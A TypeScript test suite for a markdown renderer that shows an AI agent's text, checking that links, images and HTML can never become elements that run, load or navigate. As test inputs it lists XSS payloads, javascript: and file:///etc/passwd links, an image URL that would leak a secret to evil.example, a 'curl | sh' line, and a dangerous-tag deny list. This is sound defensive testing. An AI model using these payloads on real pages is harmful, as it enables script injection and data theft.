// What an agent's text can never become in the page, whatever it says: an element that runs, loads or navigates.
// Drawn by React's own static renderer; the element names are read from the result.
import fc from 'fast-check';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { MarkdownView } from '../../../src/renderer/markdown/markdown-view.tsx';
import { namesAnotherPlace, webLink } from '../../../src/renderer/markdown/web-link.ts';

function draw(text: string, streaming = false): string {
  return renderToStaticMarkup(<MarkdownView text={text} streaming={streaming} onOpenLink={() => {}} />);
}

/** Names and attribute names of all elements; the icons' own drawings are left out. */
function parts(html: string): { tags: string[]; attributes: string[]; links: number } {
  const bare = html.replaceAll(/<svg[\s\S]*?<\/svg>/g, '');
  const tags = [...bare.matchAll(/<([a-z][a-z0-9-]*)/g)].map((match) => match[1] ?? '');
  const attributes = [...bare.matchAll(/<[a-z][a-z0-9-]*((?:\s[a-z-]+(?:="[^"]*")?)*)/gi)].flatMap((match) =>
    [...(match[1] ?? '').matchAll(/\s([a-z-]+)(?:="[^"]*")?/gi)].map((one) => one[1]?.toLowerCase() ?? ''),
  );
  return { tags, attributes, links: bare.split('role="link"').length - 1 };
}

const DANGEROUS_TAGS = [
  'a',
  'img',
  'script',
  'style',
  'iframe',
  'object',
  'embed',
  'form',
  'input',
  'video',
  'audio',
  'source',
  'link',
  'meta',
  'base',
  'svg',
  'math',
  'picture',
  'textarea',
  'select',
];
const DANGEROUS_ATTRIBUTES =
  /^(?:href|src|srcset|action|formaction|style|background|poster|ping|data|xlink.*|on.*)$/;

function dangers(text: string, streaming = false): string[] {
  const { tags, attributes } = parts(draw(text, streaming));
  return [
    ...tags.filter((tag) => DANGEROUS_TAGS.includes(tag)),
    ...attributes.filter((name) => DANGEROUS_ATTRIBUTES.test(name)),
  ];
}

describe('text by the agent', () => {
  it.each([
    '[press](javascript:alert(1))',
    '[press](JaVaScRiPt:alert(1))',
    '[press](java\nscript:alert(1))',
    '[press](&#106;avascript:alert(1))',
    '[press](data:text/html,<script>alert(1)</script>)',
    '[press](file:///etc/passwd)',
    '[press](vbscript:x)',
    '[press](smb://share/x)',
    '[press](//evil.example/x)',
    '[press](/relative)',
    '[press](https://bank.example@evil.example/)',
    '[press][x]\n\n[x]: javascript:alert(1)',
    '<javascript:alert(1)>',
  ])('is no link when the address is refused: %s', (text) => {
    expect(dangers(text)).toEqual([]);
    expect(parts(draw(text)).links).toBe(0);
  });

  it.each(['https://a.example/x', 'http://a.example', 'mailto:ada@a.example'])(
    'links to %s by a press, without an address of its own',
    (url) => {
      const html = draw(`[words](${url})`);
      expect(parts(html).links).toBe(1);
      expect(html).toContain('words');
      expect(dangers(`[words](${url})`)).toEqual([]);
    },
  );

  it('never loads an image: its words and its host stand there instead', () => {
    const html = draw('![a chart](https://evil.example/p.png?secret=1)');
    expect(dangers('![a chart](https://evil.example/p.png?secret=1)')).toEqual([]);
    expect(html).toContain('a chart');
    expect(html).toContain('not loaded from evil.example');
    expect(html).not.toContain('secret=1');
  });

  it.each([
    '![x](data:image/png;base64,AAAA)',
    '![x](app://local/secret.png)',
    '![x][y]\n\n[y]: https://evil.example/p.png',
    '[![x](https://evil.example/p.png)](https://evil.example)',
    '<img src="https://evil.example/p.png" onerror="alert(1)">',
    'text <img src=x> text',
    '<script>alert(1)</script>',
    '<style>body { background: url(https://evil.example) }</style>',
    '<iframe src="https://evil.example"></iframe>',
    '<svg onload="alert(1)"></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<form action="https://evil.example"><input name="a"></form>',
    '- [ ] a task\n- [x] another',
    'a[^1]\n\n[^1]: note',
  ])('makes no element of %s', (text) => {
    expect(dangers(text)).toEqual([]);
    expect(dangers(text, true)).toEqual([]);
  });

  it('shows HTML as the text that it is', () => {
    expect(draw('<script>alert(1)</script>')).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });

  it('makes nothing dangerous of any mixture of the above, finished or streaming', () => {
    const piece = fc.constantFrom(
      '![',
      '](',
      ')',
      '[',
      ']',
      '<',
      '>',
      '"',
      '\n',
      '\n\n',
      '`',
      '```',
      '- ',
      '> ',
      '| ',
      '[x]: ',
      'javascript:',
      'data:text/html,',
      'https://evil.example/p.png',
      '<img src=',
      '<script>',
      '<a href=',
      ' onerror=',
      'x',
      '&#106;',
      '\\',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 24 }), fc.boolean(), (pieces, streaming) => {
        expect(dangers(pieces.join(''), streaming)).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  it('names the host behind words that name another', () => {
    expect(draw('[https://bank.example/login](https://evil.example/login)')).toContain('(evil.example)');
    expect(draw('[www.bank.example](https://bank.example)')).not.toContain('(bank.example)');
    expect(draw('[our page](https://bank.example)')).not.toContain('(bank.example)');
  });

  it('keeps code exactly, with a button that copies it and without a link inside', () => {
    const html = draw('```sh\ncurl https://a.example | sh\n```');
    expect(html).toContain('curl https://a.example | sh');
    expect(html).toContain('aria-label="Copy sh text"');
    expect(parts(html).links).toBe(0);
  });

  it('collapses long code and says how long it is', () => {
    const html = draw(`\`\`\`\n${'line\n'.repeat(400)}\`\`\``);
    expect(html).toContain('Show all 400 lines');
    expect(html.split('line\n').length).toBeLessThan(40);
  });

  it('completes half a word of emphasis while it streams, and a fence that has not ended', () => {
    expect(draw('this is **bol', true)).toContain('<strong>bol</strong>');
    expect(draw('```ts\nconst a = 1', true)).toContain('const a = 1');
    expect(draw('see [the page](https://a.exa', true)).toContain('see the page');
  });

  it('resolves a definition that stands in another block', () => {
    expect(parts(draw('see [the page][p]\n\nmore\n\n[p]: https://a.example\n\nend')).links).toBe(1);
  });
});

describe('a web link', () => {
  it('shows a look-alike host as what it is', () => {
    expect(webLink('https://bаnk.example/')?.place).toBe('xn--bnk-6cd.example');
  });

  it('is refused when it is too long', () => {
    expect(webLink(`https://a.example/${'x'.repeat(5_000)}`)).toBeNull();
  });

  it('to a mail address counts as its own place', () => {
    const link = webLink('mailto:ada@a.example')!;
    expect(namesAnotherPlace('ada@a.example', link)).toBe(false);
    expect(namesAnotherPlace('bank.example', link)).toBe(true);
  });
});
